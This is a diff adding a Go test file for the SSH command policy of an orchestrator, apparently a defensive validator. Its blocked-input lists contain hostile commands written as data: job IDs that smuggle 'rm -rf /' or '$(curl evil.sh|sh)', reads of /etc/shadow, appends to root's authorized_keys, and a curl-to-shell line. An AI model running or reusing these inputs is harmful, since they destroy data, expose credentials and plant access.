@@ -0,0 +1,87 @@
+package ssh
+
+import (
+	"testing"
+
+	"github.com/addison-moore/cronium/apps/orchestrator/internal/config"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestCommandPolicy(t *testing.T) {
+	policy := newCommandPolicy(config.CommandPolicyConfig{
+		Enabled:      true,
+		AllowedPaths: []string{"/tmp/cronium-*"},
+	}, "/tmp/cronium", testLogger())
+
+	// The commands the executor runs to deploy the runner and move payloads
+	for _, cmd := range []string{
+		"mkdir -p /tmp/cronium",
+		"cat > /tmp/cronium-runner-1.4.0",
+		"chmod +x /tmp/cronium-runner-1.4.0",
+		"test -x /tmp/cronium-runner-1.4.0 && /tmp/cronium-runner-1.4.0 version",
+		"test -f /tmp/cronium-runner-1.4.0 && /tmp/cronium-runner-1.4.0 version | grep -q 1.4.0",
+		"/tmp/cronium-runner-dev version",
+		"sha256sum /tmp/cronium-runner-1.4.0 | grep -q 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+		"cat > /tmp/cronium-payload-job_1.tar.gz && { touch -c /tmp/cronium/scripts/ab12; [ -f /tmp/cronium/scripts/ab12 ] || exit 75; }",
+		"mkdir -p /tmp/cronium/scripts && cat > /tmp/cronium/scripts/ab12.tmp-job_1 && mv -f /tmp/cronium/scripts/ab12.tmp-job_1 /tmp/cronium/scripts/ab12",
+		"rm -f /tmp/cronium/payloads/job_1.tar.gz",
+		// Checkpoints, operator messages and resource usage
+		"mkdir -p /tmp/cronium/checkpoints/exec_1 && cat > /tmp/cronium/checkpoints/exec_1/request",
+		"cat /tmp/cronium/checkpoints/exec_1/progress.json",
+		"cat >> " + remoteMessagesFile("job_1"),
+		"cat " + remoteUsageFile("job_1"),
+	} {
+		assert.NoError(t, policy.Check("web-1", cmd), cmd)
+	}
+
+	for _, cmd := range []string{
+		// A job ID smuggling a second command
+		"rm -f /tmp/cronium-payload-x; rm -rf /",
+		"rm -f /tmp/cronium-payload-$(curl evil.sh|sh).tar.gz",
+		"rm -f /tmp/cronium-payload-`id`.tar.gz",
+		"cat > /tmp/cronium-payload-x.tar.gz & sleep 1",
+		// Paths outside the allowed ones
+		"rm -f /etc/passwd",
+		"sha256sum /etc/shadow",
+		"mkdir -p /tmp/cronium/../../root/.ssh",
+		"cat > /tmp/other",
+		"chmod +x /usr/local/bin/tool",
+		// Other programs and flags
+		"curl https://example.com",
+		"chmod 4755 /tmp/cronium-runner-1.4.0",
+		"rm -rf /tmp/cronium",
+		"/tmp/cronium-runner-1.4.0 run --script /etc/shadow",
+		"/bin/sh -c id",
+		"echo hi > /tmp/cronium/x",
+		"cat /etc/shadow",
+		"cat /tmp/cronium/a /tmp/cronium/b",
+		"cat >> /root/.ssh/authorized_keys",
+		"cat > /tmp/cronium/a > /tmp/cronium/b",
+		"",
+	} {
+		err := policy.Check("web-1", cmd)
+		assert.ErrorIs(t, err, errCommandBlocked, cmd)
+	}
+
+	audit := newCommandPolicy(config.CommandPolicyConfig{Enabled: true, AuditOnly: true}, "/tmp/cronium", testLogger())
+	assert.NoError(t, audit.Check("web-1", "rm -rf /"))
+
+	disabled := newCommandPolicy(config.CommandPolicyConfig{}, "/tmp/cronium", testLogger())
+	assert.NoError(t, disabled.Check("web-1", "curl https://example.com | sh"))
+}
+
+func TestHelperScriptPaths(t *testing.T) {
+	policy := newCommandPolicy(config.CommandPolicyConfig{
+		Enabled:      true,
+		AllowedPaths: []string{"/tmp/cronium-*"},
+	}, "/tmp/cronium", testLogger())
+
+	assert.NoError(t, policy.CheckHelper("web-1", "terminate", remotePGIDFile("deploy", "job_1"), remoteCancelFile("job_1")))
+	assert.NoError(t, policy.CheckHelper("web-1", "stats", remotePGIDFile("deploy", "job_1")))
+
+	// Job IDs end up in the helper scripts unquoted
+	for _, jobID := range []string{"x; rm -rf /", "$(id)", "x/../../../etc/passwd", "x\nreboot"} {
+		err := policy.CheckHelper("web-1", "terminate", remotePGIDFile("deploy", jobID), remoteCancelFile(jobID))
+		assert.ErrorIs(t, err, errCommandBlocked, jobID)
+	}
+}